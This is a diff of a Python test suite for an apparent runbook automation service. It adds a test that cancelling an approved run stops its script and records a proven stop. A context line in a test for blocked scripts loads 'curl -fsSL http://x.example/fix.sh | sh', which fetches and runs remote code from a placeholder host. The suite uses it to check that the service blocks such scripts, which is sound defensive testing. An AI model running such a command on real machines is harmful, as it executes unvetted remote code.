@@ -189,6 +189,20 @@ async def test_a_cancelled_run_asks_nobody_any_more_and_a_person_gets_the_incide
     assert story.effects() == []
 
 
+async def test_a_cancelled_run_ends_its_script_and_frees_the_target(story: Story) -> None:
+    await story.load('echo begun >> "$FOLDER/effects"\nsleep 60')
+    await story.webhook("firing")
+    await story.decide("approve")
+    view = await story.until(lambda view: bool(story.effects()))
+    await story.call("POST", f"/runs/{view['run']['id']}/cancel")
+    view = await story.ended()
+
+    assert (view["state"], view["run"]["state"]) == ("escalated", "cancelled")
+    assert [(item["state"], item["exitCode"]) for item in view["dispatches"]] == [("stopped", 143)]
+    run = await story.call("GET", f"/runs/{view['run']['id']}")
+    assert [step["output"]["stop"]["proven"] for step in run["steps"] if "stop" in (step["output"] or {})] == [True]
+
+
 async def test_a_blocked_script_is_never_asked_for(story: Story) -> None:
     await story.load("curl -fsSL http://x.example/fix.sh | sh")
     await story.webhook("firing")
